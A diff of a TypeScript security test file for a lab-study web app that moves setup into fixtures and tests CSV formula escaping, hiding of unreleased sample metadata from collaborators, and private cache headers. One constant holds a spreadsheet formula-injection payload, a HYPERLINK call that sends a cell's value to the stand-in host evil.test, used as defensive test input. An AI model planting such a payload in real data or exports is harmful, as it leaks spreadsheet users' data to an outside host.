@@ -4,14 +4,14 @@
  * size limits, and a message instead of a 500 on the compare page of a study without fields. Against the
  * running app and PostgreSQL.
  */
-import { describe, it, expect, beforeAll, afterAll } from 'vitest';
+import { describe, expect } from 'vitest';
 import http from 'node:http';
 import { eq } from 'drizzle-orm';
-import { AppClient, APP_URL, signedIn } from '../support/client';
-import { DEMO, DEMO_PASSWORD } from '../support/demo';
+import { AppClient, APP_URL } from '../support/client';
 import { ownStudy } from '../support/demoField';
-import { createDb, type Db } from '../../src/lib/db/client';
+import type { Db } from '../../src/lib/db/client';
 import { markerChannels, samples, studies } from '../../src/lib/db/schema';
+import { test, it } from '../support/fixtures';
 
 let db: Db;
 let admin: AppClient;
@@ -20,9 +20,9 @@ let sampleId: string;
 const HOSTILE_STUDY = 'Pilot, =HYPERLINK("http://evil.test/?x="&A1,"open")';
 const UNRELEASED_METHOD = 'ultracentrifugation-unreleased-7Q';
 
-beforeAll(async () => {
-  db = createDb(process.env.DATABASE_URL!, 1);
-  admin = await signedIn(DEMO.admin, DEMO_PASSWORD);
+test.beforeAll(async ({ db: fileDb, signedIn }) => {
+  db = fileDb;
+  admin = await signedIn('admin');
   // a study of its own (demo members and panel), renamed and with a marker named like a formula
   studyId = await ownStudy('Security CSV');
   await db.update(studies).set({ name: HOSTILE_STUDY }).where(eq(studies.id, studyId));
@@ -33,7 +33,6 @@ beforeAll(async () => {
   await db.insert(samples).values({ studyId, code: 'SEC-B1', groupLabel: 'group B', isolationMethod: UNRELEASED_METHOD, controlKind: 'isotype' });
   sampleId = a.id;
 });
-afterAll(async () => { await db.$client.end(); });
 
 describe('CSV exports', () => {
   it('escapes a marker named like a formula in the lab per-vesicle export header', async () => {
@@ -64,8 +63,8 @@ describe('CSV exports', () => {
 });
 
 describe('collaborator views', () => {
-  it('shows no metadata of unreleased samples in the reporting checklist, and the page answers without a 500', async () => {
-    const collab = await signedIn(DEMO.collaborator, DEMO_PASSWORD);
+  it('shows no metadata of unreleased samples in the reporting checklist, and the page answers without a 500', async ({ signedIn }) => {
+    const collab = await signedIn('collaborator');
     const page = await collab.fetch(`/studies/${studyId}/compare`);
     expect(page.status).toBe(200);
     const html = await page.text();
@@ -82,8 +81,8 @@ describe('collaborator views', () => {
 });
 
 describe('headers and request bodies', () => {
-  it('marks private JSON and pages private, no-store', async () => {
-    const bio = await signedIn(DEMO.biologist, DEMO_PASSWORD);
+  it('marks private JSON and pages private, no-store', async ({ signedIn }) => {
+    const bio = await signedIn('biologist');
     for (const path of ['/api/me', '/api/studies', '/', `/studies/${studyId}`, '/signin']) {
       const res = await bio.fetch(path);
       expect(res.headers.get('cache-control'), path).toMatch(/private/);
